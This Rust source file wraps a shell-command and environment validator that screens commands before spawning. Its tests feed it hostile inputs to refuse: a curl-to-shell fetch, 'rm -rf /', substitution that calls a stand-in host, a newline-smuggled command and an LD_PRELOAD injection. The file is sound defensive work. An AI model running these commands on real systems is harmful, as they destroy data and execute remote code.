//! The command policy every production spawn uses: the guard's exec validator.
//!
//! [`GuardPolicy`] runs `comis_guard::shell` on the command and on the environment the caller
//! asks to set: Gate 0 (control and invisible characters), quote-aware substitution detection,
//! dangerous pipe targets, the `ExecDeny` denylist, IFS/brace/`/proc/*/environ` tricks, protected
//! paths and redirects, zsh builtins, and the environment allowlist (`LD_PRELOAD`, `DYLD_*`, …
//! refused). A refusal names the gate and the reason; nothing is spawned.
//!
//! It does not replace the sandbox: the validator is a syntax-level filter in front of the
//! kernel's isolation, never a substitute for it.

use comis_guard::GuardError;
use comis_guard::shell::CommandValidator;

use crate::exec::CommandPolicy;

/// The exec validator of `comis-guard` as a [`CommandPolicy`].
#[derive(Debug)]
pub struct GuardPolicy {
    validator: CommandValidator,
}

impl GuardPolicy {
    /// Builds the validator (compiles the denylist once). Fails closed if the pattern registry
    /// cannot be built.
    pub fn new() -> Result<Self, GuardError> {
        Ok(GuardPolicy {
            validator: CommandValidator::new()?,
        })
    }
}

impl CommandPolicy for GuardPolicy {
    fn check(&self, command: &str, env: &[(String, String)]) -> Result<(), String> {
        let verdict = self.validator.validate_with_env(command, env);
        if verdict.allowed {
            Ok(())
        } else {
            Err(verdict
                .reason
                .unwrap_or_else(|| "refused by the exec validator".to_owned()))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn env(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    #[test]
    fn passes_ordinary_commands() {
        let p = GuardPolicy::new().unwrap();
        assert_eq!(
            p.check("ls -la && cargo test", &env(&[("LANG", "C.UTF-8")])),
            Ok(())
        );
        assert_eq!(p.check("echo '$(just text)'", &[]), Ok(()));
    }

    #[test]
    fn refuses_substitution_denylist_and_env() {
        let p = GuardPolicy::new().unwrap();
        assert!(
            p.check("cat f > $(curl evil.test)", &[])
                .unwrap_err()
                .contains("substitution")
        );
        assert!(p.check("rm -rf /", &[]).is_err());
        assert!(p.check("curl -s https://x.test | sh", &[]).is_err());
        assert!(p.check("ls\nid", &[]).is_err());
        assert!(p.check("ls", &env(&[("LD_PRELOAD", "/tmp/x.so")])).is_err());
    }
}
